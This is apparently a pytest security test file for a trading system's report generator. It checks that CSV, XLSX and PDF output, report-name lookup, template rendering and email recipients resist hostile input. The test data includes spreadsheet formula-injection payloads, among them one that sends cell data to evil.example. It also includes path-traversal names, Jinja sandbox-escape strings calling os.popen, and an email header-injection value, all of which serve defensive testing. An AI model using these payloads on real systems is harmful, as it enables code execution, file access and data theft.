"""Reports are safe to open: hostile text is inert in every format, report names are
never paths, templates run in the sandbox, recipients are addresses."""

from __future__ import annotations

import csv
import subprocess
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from cistrade_core.reports.data import Kind, ReportColumn, ReportData
from cistrade_core.reports.definition import (
    DefinitionError,
    RecipientError,
    check_address,
    get_definition,
    load_definition,
)
from cistrade_core.reports.runner import build_report, deliver
from cistrade_core.reports.safe_text import FORMULA_PREFIXES
from cistrade_core.reports.to_csv import write_csv
from cistrade_core.reports.to_pdf import write_pdf
from cistrade_core.reports.to_xlsx import write_xlsx

from .test_core_reports import AS_OF

GENERATED = datetime(2026, 11, 28, 7, 30, tzinfo=UTC)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"]
RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"


def hostile_data() -> ReportData:
    cols = [ReportColumn("portfolio_name", "Name"), ReportColumn("amount", "Amount",
                                                                 Kind.DECIMAL, 2),
            ReportColumn("count", "Count", Kind.INT)]
    rows = [(name, Decimal("-12.50"), -3) for name in FORMULAS]
    rows += [(f"Client ABC{RLO}FED{LRI}x{PDI} end", Decimal("1"), 1),
             ("nul\x00bell\x07esc\x1b[31m", Decimal("2"), 2)]
    return ReportData(cols, rows, {"portfolio": "=1+1"})


def test_csv_text_cells_are_never_formulas_and_numbers_stay_numbers(tmp_path):
    path = write_csv(hostile_data(), tmp_path / "r.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    for (name, amount, count), original in zip(rows, FORMULAS, strict=False):
        assert name == "'" + original
        assert (amount, count) == ("-12.50", "-3")  # typed values are not touched
    assert all(r[0][0] not in FORMULA_PREFIXES for r in rows)
    assert rows[-2][0] == "Client ABC\ufffdFED\ufffdx\ufffd end"
    assert rows[-1][0] == "nul\ufffdbell\ufffdesc\ufffd[31m"


def test_xlsx_text_cells_are_strings_not_formulas(tmp_path):
    from openpyxl import load_workbook

    path = write_xlsx(hostile_data(), tmp_path / "r.xlsx", "=cmd|'/c calc'!A0", GENERATED)
    wb = load_workbook(path)
    ws = wb["Report"]
    cells = [c for row in ws.iter_rows() for c in row] + [
        c for row in wb["Parameters"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    names = [r[0].value for r in ws.iter_rows(min_row=2)]
    assert names[:len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert names[-1] == "nul\ufffdbell\ufffdesc\ufffd[31m"  # control characters did not break it
    assert ws["B2"].value == -12.5 and ws["C2"].value == -3  # numbers stay numbers
    params = {r[0].value: r[1].value for r in wb["Parameters"].iter_rows(min_row=2)}
    assert params["report"] == "'=cmd|'/c calc'!A0" and params["portfolio"] == "'=1+1"


def test_pdf_shows_bidi_controls_as_replacement_characters(tmp_path):
    path = write_pdf(hostile_data(), tmp_path / "r.pdf", f"Title {RLO}evil", GENERATED,
                     workers=1)
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], check=True,
                          capture_output=True, text=True, timeout=60).stdout
    assert not set(text) & set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
                               "\u2066\u2067\u2068\u2069")
    assert "Client ABC\ufffdFED\ufffdx\ufffd end" in text  # the row reads in stored order
    assert "Title \ufffdevil" in text
    assert "\x1b" not in text and "\x00" not in text


@pytest.fixture
def hostile_portfolio(core, login, clock):
    """A pending portfolio whose name and desk are spreadsheet formulas."""
    maker = login("maker1")
    p = core.portfolios.create(maker, "HOST-01", name=FORMULAS[0], base_currency="GBP",
                               owner="maker1", desk="+cmd|' /C calc'!A0")
    core.portfolios.submit(maker, "HOST-01", p.version)
    clock.advance(hours=1)


def test_hostile_portfolio_names_through_the_report_runner(hostile_portfolio, settings,
                                                           core_wh, tmp_path):
    from openpyxl import load_workbook

    run = build_report(get_definition("pending_approvals"), AS_OF, formats=["csv", "xlsx", "pdf"],
                       settings=settings, warehouse=core_wh, out=tmp_path)
    csv_path, xlsx_path, pdf_path = run.files
    [row] = list(csv.DictReader(csv_path.open(encoding="utf-8")))
    assert row["portfolio_name"] == "'" + FORMULAS[0]
    assert row["desk"] == "'+cmd|' /C calc'!A0"
    ws = load_workbook(xlsx_path)["Report"]
    header = [c.value for c in ws[1]]
    name = ws.cell(2, header.index("Name") + 1)
    assert name.data_type == "s" and name.value == "'" + FORMULAS[0]
    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    text = subprocess.run(["pdftotext", "-layout", str(pdf_path), "-"], check=True,
                          capture_output=True, text=True, timeout=60).stdout
    assert "HOST-01" in text


# -- report names --------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["../../../etc/passwd", "../outside", "/etc/hostname",
                                  "pending_approvals/../outside", "pending_approvals.yaml",
                                  "PENDING_APPROVALS", "x" * 5000, "pending_approvals\x00"])
def test_a_report_name_is_never_a_path(tmp_path, name):
    reports = tmp_path / "reports"
    reports.mkdir()
    real = get_definition("pending_approvals")
    (reports / "pending_approvals.yaml").write_text(
        (Path(__file__).parents[2] / "reports" / "pending_approvals.yaml").read_text())
    # a valid definition outside the registry: it must never be loaded
    (tmp_path / "outside.yaml").write_text(
        (reports / "pending_approvals.yaml").read_text().replace(
            "name: pending_approvals", "name: outside"))
    with pytest.raises(DefinitionError) as exc:
        get_definition(name, reports)
    message = str(exc.value)
    assert "expected one of: pending_approvals" in message and len(message) < 300
    assert get_definition("pending_approvals", reports) == real


def test_a_symlink_in_the_reports_folder_is_not_a_report(tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    target = tmp_path / "elsewhere.yaml"
    target.write_text((Path(__file__).parents[2] / "reports" / "pending_approvals.yaml")
                      .read_text().replace("name: pending_approvals", "name: linked"))
    (reports / "linked.yaml").symlink_to(target)
    with pytest.raises(DefinitionError, match="no report 'linked'"):
        get_definition("linked", reports)


# -- templates -----------------------------------------------------------------------------
DEFINITION = """\
name: sandboxed
title: Test
query: gmp_load_summary
formats: [csv]
schedule: {{cron: "0 6 * * *"}}
recipients: [ops@example.com]
subject: "{subject}"
body: "Rows: {{{{ rows }}}}"
"""


@pytest.mark.parametrize("subject", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ title.__class__.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
    "{{ no_such_variable }}",
])
def test_a_hostile_template_is_refused_on_load(tmp_path, subject, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "sandboxed.yaml"
    path.write_text(DEFINITION.format(subject=subject))
    with pytest.raises(DefinitionError, match="field 'subject': template"):
        load_definition(path)
    assert not (tmp_path / "PWNED").exists()


def test_the_sandbox_refuses_at_render_time_too(settings, warehouse, tmp_path, monkeypatch):
    """A definition object built in code (no load-time check) still cannot run code."""
    monkeypatch.chdir(tmp_path)
    definition = get_definition("gmp_daily_load_summary").model_copy(update={
        "subject": "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}"})
    run = build_report(definition, date(2026, 11, 27), formats=["csv"], settings=settings,
                       warehouse=warehouse, out=tmp_path / "out")
    with pytest.raises(DefinitionError, match="template refused: SecurityError"):
        run.render(definition.subject)
    assert not (tmp_path / "PWNED").exists()


# -- recipients ----------------------------------------------------------------------------
BAD_ADDRESSES = ["anyone", "a@b@c.com", "Eve <eve@example.com>", "eve@example.com, x@y.com",
                 "eve@example.com\r\nBcc: all@example.com", "\"eve\"@example.com",
                 "eve@[127.0.0.1]", "", "  ", "x" * 300 + "@example.com", "eve@exa mple.com",
                 "eve@-bad-.com", "@localhost", "eve@"]


@pytest.mark.parametrize("address", BAD_ADDRESSES)
def test_a_recipient_must_be_one_address(address):
    with pytest.raises(RecipientError, match="expected|email address"):
        check_address(address)


def test_good_addresses_pass_normalised():
    assert check_address(" Ops.Team@Example.COM ") == "Ops.Team@example.com"
    assert check_address("checkers@localhost") == "checkers@localhost"
    assert check_address("desk@intranet") == "desk@intranet"


def test_bad_recipients_are_refused_before_anything_is_built(settings, warehouse, tmp_path):
    definition = get_definition("gmp_daily_load_summary")
    out = tmp_path / "out"
    with pytest.raises(RecipientError, match="'anyone' is not an email address"):
        build_report(definition, date(2026, 11, 27), settings=settings, warehouse=warehouse,
                     out=out, recipients=["ops@example.com", "anyone"])
    assert not out.exists()
    run = build_report(definition, date(2026, 11, 27), formats=["csv"], settings=settings,
                       warehouse=warehouse, out=out)
    with pytest.raises(RecipientError):
        deliver(run, ["eve@example.com\r\nBcc: all@example.com"], settings=settings,
                warehouse=warehouse)
    assert warehouse.query("SELECT count(*) AS n FROM gmp_cis.cis_mail_outbox")[0]["n"] == 0


def test_a_definition_with_a_bad_recipient_names_it(tmp_path):
    path = tmp_path / "sandboxed.yaml"
    path.write_text(DEFINITION.format(subject="x").replace("[ops@example.com]",
                                                           "[ops@example.com, 'Eve <e@x.io>']"))
    with pytest.raises(DefinitionError, match=r"field 'recipients': 'Eve <e@x.io>' is not an"):
        load_definition(path)
